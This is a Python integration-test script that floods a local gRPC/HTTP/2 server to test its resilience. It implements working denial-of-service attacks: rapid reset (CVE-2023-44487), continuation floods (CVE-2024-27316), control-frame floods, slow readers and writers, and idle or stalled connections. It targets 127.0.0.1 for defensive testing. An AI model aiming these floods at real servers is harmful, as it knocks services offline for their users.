"""A process that floods a server, by one kind of flood, until it is killed.

`python -m tests.integration.flood.flooder KIND PORT SIZE`. It is nice: an attacker's work is done elsewhere,
and here it may not take the processor from who measures. It prints a line when its first wave has gone out.
"""

import asyncio
import os
import signal
import struct
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager, suppress
from itertools import count
from time import monotonic

from protos import orchestrator_pb2 as pb
from tests.integration.flood.frames import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    HELLO,
    PING,
    PREFACE,
    SETTINGS,
    WINDOW_UPDATE,
    call,
    frame,
    header_block,
    reset,
)

CONNECTIONS = 4
BATCH = 50
BATCH_SECONDS = 0.1
"""Between two batches of resets: 2,000 a second by four connections."""
READER_SECONDS = 0.16
"""Between two whose streams are executed: 25 a second by four connections, which a processor can answer."""
WAVE_SECONDS = 5.0
BYTES_PER_SECOND = 4 << 20
"""Of one connection, 134 Mbit/s of all four: what a network brings, not what the memory of a machine can."""
WIDE = 1 << 20
NO_WINDOW = PREFACE + frame(SETTINGS, 0, struct.pack(">HI", 4, 0))
Write = Callable[[bytes], Awaitable[None]]


def request(user: str) -> pb.ChatRequest:
    return pb.ChatRequest(user_id=user, query="flood")


def odd() -> Iterator[int]:
    """The numbers of a peer's streams."""
    return count(1, 2)


async def streams(write: Write, size: int) -> None:
    """All streams that a user can open, and again when they have been refused or have ended."""
    numbers = odd()
    await write(HELLO + frame(WINDOW_UPDATE, 0, struct.pack(">I", 1 << 30)))
    while True:
        for _ in range(size // CONNECTIONS):
            await write(call(next(numbers), request("flood"), window=WIDE))
        told()
        await asyncio.sleep(WAVE_SECONDS)


async def rapid_reset(write: Write, size: int) -> None:
    """Calls that are cancelled as they are made: CVE-2023-44487."""
    numbers = odd()
    await write(HELLO)
    while True:
        batch = [next(numbers) for _ in range(min(BATCH, size))]
        await write(b"".join(call(number, request("flood")) + reset(number) for number in batch))
        told()
        await asyncio.sleep(BATCH_SECONDS)


async def continuation(write: Write, size: int) -> None:
    """Headers that never end: CVE-2024-27316 and its like."""
    await write(HELLO + frame(HEADERS, 1, header_block()))
    while True:
        await write(frame(CONTINUATION, 1, b"\0\x01x" + bytes((100,)) + bytes(100)) * min(size, BATCH))
        told()


async def pings(write: Write, size: int) -> None:
    await repeated(write, frame(PING, 0, bytes(8)), size)


async def settings(write: Write, size: int) -> None:
    await repeated(write, frame(SETTINGS), size)


async def window_updates(write: Write, size: int) -> None:
    await repeated(write, frame(WINDOW_UPDATE, 0, struct.pack(">I", 1)), size)


async def repeated(write: Write, one: bytes, size: int) -> None:
    await write(HELLO)
    while True:
        await write(one * min(size, BATCH))
        told()


async def slow_readers(write: Write, size: int) -> None:
    """Streams of a peer that lets nothing be sent to it, one after the other: what is accepted is work."""
    await write(NO_WINDOW)
    for number, at in zip(odd(), range(size // CONNECTIONS // 4), strict=False):
        await write(call(number, request(f"slow-{at}")))
        told()
        await asyncio.sleep(READER_SECONDS)
    await asyncio.Event().wait()


async def slow_writers(write: Write, size: int) -> None:
    """Calls whose request never comes whole."""
    await write(HELLO)
    for number, _ in zip(odd(), range(size // CONNECTIONS), strict=False):
        await write(call(number))
    told()
    while True:
        await write(frame(0, 1, b"\0"))
        await asyncio.sleep(0.2)


async def half_headers(write: Write, size: int) -> None:
    """Half of a frame of headers, on many connections."""
    del size
    await write(HELLO + frame(HEADERS, 1, header_block(), END_HEADERS)[:20])
    told()
    await asyncio.Event().wait()


async def silence(write: Write, size: int) -> None:
    """Connections on which nobody speaks."""
    del write, size
    told()
    await asyncio.Event().wait()


async def stopped(write: Write, size: int) -> None:
    """A peer that goes away in the middle of its streams without a word; its kernel still says it lives."""
    told()
    await streams_once(write, size)
    os.kill(os.getpid(), signal.SIGSTOP)


async def streams_once(write: Write, size: int) -> None:
    """One after the other, as those of slow readers."""
    await write(HELLO)
    for number, at in zip(odd(), range(max(5, size // CONNECTIONS // 20)), strict=False):
        await write(call(number, request(f"gone-{os.getpid()}-{at}"), window=WIDE))
        await asyncio.sleep(READER_SECONDS)


MANY_CONNECTIONS = (half_headers, silence)
KINDS = {
    kind.__name__: kind
    for kind in (
        streams,
        rapid_reset,
        continuation,
        pings,
        settings,
        window_updates,
        slow_readers,
        slow_writers,
        half_headers,
        silence,
        stopped,
    )
}


def told() -> None:
    if not _told.is_set():
        _told.set()
        sys.stdout.write("flooding\n")
        sys.stdout.flush()


_told = asyncio.Event()


@asynccontextmanager
async def connection(port: int) -> AsyncIterator[Write]:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    reading = asyncio.create_task(drained(reader), name="drained")

    paid_until = monotonic()

    async def write(data: bytes) -> None:
        nonlocal paid_until
        if reading.done():
            raise ConnectionResetError
        writer.write(data)
        await writer.drain()
        paid_until = max(monotonic() - 0.05, paid_until) + len(data) / BYTES_PER_SECOND
        if (ahead := paid_until - monotonic()) > 0:
            await asyncio.sleep(ahead)

    try:
        yield write
    finally:
        reading.cancel()
        writer.transport.abort()


async def drained(reader: asyncio.StreamReader) -> None:
    with suppress(ConnectionError):
        while await reader.read(1 << 16):
            pass


async def flood(kind: str, port: int, size: int) -> None:
    """Attack on as many connections as the kind has, and anew whenever the server ends one."""
    attack = KINDS[kind]

    async def again() -> None:
        while True:
            with suppress(OSError):
                async with connection(port) as write:
                    await attack(write, size)
            await asyncio.sleep(0.05)

    connections = size if attack in MANY_CONNECTIONS else CONNECTIONS
    await asyncio.gather(*(again() for _ in range(connections)))


if __name__ == "__main__":
    os.nice(19)
    asyncio.run(flood(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
